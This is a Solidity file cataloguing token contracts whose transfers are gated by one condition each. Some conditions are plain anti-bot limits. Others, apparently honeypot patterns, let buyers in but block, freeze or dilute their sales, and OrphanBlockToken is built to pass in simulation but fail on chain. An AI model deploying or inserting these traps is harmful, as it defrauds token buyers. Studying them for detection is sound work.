// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";
import {Traded} from "./base/Traded.sol";

/// Tokens that let some transfers through and not others. Each looks at another sign.
abstract contract Gate is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal virtual override {
        if (!_isOwner(from, to)) {
            if (from == pair) _onBuy(to, amount);
            else if (to == pair) _onSale(from, amount);
        }
        _move(from, to, amount);
    }

    function _onBuy(address buyer, uint256 amount) internal virtual {}

    function _onSale(address seller, uint256 amount) internal virtual {}
}

/// Five blocks between an address's trades.
contract BlockCooldownToken is Gate {
    mapping(address => uint256) private _last;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address buyer, uint256) internal override {
        _last[buyer] = block.number;
    }

    function _onSale(address seller, uint256) internal override {
        require(block.number >= _last[seller] + 5, "wait five blocks");
        _last[seller] = block.number;
    }
}

/// Nobody sells within ten blocks after anybody bought.
contract SharedCooldownToken is Gate {
    uint256 private _lastBuy;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256) internal override {
        _lastBuy = block.number;
    }

    function _onSale(address, uint256) internal view override {
        require(block.number >= _lastBuy + 10, "somebody just bought");
    }
}

/// One buy in a block, whoever it is.
contract OneBuyToken is Gate {
    uint256 private _lastBuy;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256) internal override {
        require(block.number > _lastBuy, "one buy a block");
        _lastBuy = block.number;
    }
}

/// Everybody sells once, and never again.
contract SellOnceToken is Gate {
    mapping(address => bool) private _sold;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address seller, uint256) internal override {
        require(!_sold[seller], "sold before");
        _sold[seller] = true;
    }
}

/// Trades only for whoever signed the transaction.
contract OriginToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address buyer, uint256) internal view override {
        require(tx.origin == buyer, "buy for yourself");
    }

    function _onSale(address seller, uint256) internal view override {
        require(tx.origin == seller, "sell for yourself");
    }
}

/// No contracts among buyers and sellers.
contract WalletsOnlyToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address buyer, uint256) internal view override {
        require(buyer.code.length == 0, "no contracts");
    }

    function _onSale(address seller, uint256) internal view override {
        require(seller.code.length == 0, "no contracts");
    }
}

/// Who pays much more than the base fee is taken for a bot.
contract GasPriceToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256) internal view override {
        require(tx.gasprice > 0 && tx.gasprice <= block.basefee + 5 gwei, "gas price");
    }

    function _onSale(address, uint256) internal view override {
        require(tx.gasprice > 0 && tx.gasprice <= block.basefee + 5 gwei, "gas price");
    }
}

/// Small amounts only in the first thousand blocks.
contract OpeningLimitToken is Gate {
    uint256 private immutable _opened = block.number;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256 amount) internal view override {
        if (block.number < _opened + 1000) require(amount <= SUPPLY / 400, "too much for now");
    }
}

/// Who buys in the first thousand blocks never sells.
contract SniperToken is Gate {
    uint256 private immutable _opened = block.number;
    mapping(address => bool) private _isSniper;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address buyer, uint256) internal override {
        if (block.number < _opened + 1000) _isSniper[buyer] = true;
    }

    function _onSale(address seller, uint256) internal view override {
        require(!_isSniper[seller], "sniper");
    }
}

/// Rests in every other block.
contract ParityToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256) internal view override {
        require(block.number % 2 == 0, "resting");
    }

    function _onSale(address, uint256) internal view override {
        require(block.number % 2 == 0, "resting");
    }
}

/// Trading ends ten days after creation.
contract ClosingToken is Gate {
    uint256 private immutable _end = block.timestamp + 10 days;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256) internal view override {
        require(block.timestamp < _end, "closed");
    }

    function _onSale(address, uint256) internal view override {
        require(block.timestamp < _end, "closed");
    }
}

/// Sellers have to be on a list.
contract ListedSellersToken is Gate {
    mapping(address => bool) public isListed;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function list(address seller) external onlyOwner {
        isListed[seller] = true;
    }

    function _onSale(address seller, uint256) internal view override {
        require(isListed[seller], "not listed");
    }
}

/// Holders are frozen one by one.
contract FreezerToken is Gate {
    mapping(address => bool) public isFrozen;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function freeze(address holder) external onlyOwner {
        isFrozen[holder] = true;
    }

    function _onSale(address seller, uint256) internal view override {
        require(!isFrozen[seller], "frozen");
    }
}

/// Sales must be dust beside what the pair holds.
contract DustSaleToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address, uint256 amount) internal view override {
        require(amount <= _balances[pair] / 10 ** 9, "pair balance");
    }
}

/// Nobody sells their last token.
contract KeepOneToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address seller, uint256 amount) internal view override {
        require(_balances[seller] >= amount + 1 ether, "keep one");
    }
}

/// Mints as much to its owner as is sold.
contract MintingSaleToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address, uint256 amount) internal override {
        _issue(owner, amount);
    }
}

/// Simulated blocks may have no parents.
contract OrphanBlockToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address, uint256) internal view override {
        require(blockhash(block.number - 1) == 0, "real block");
    }
}
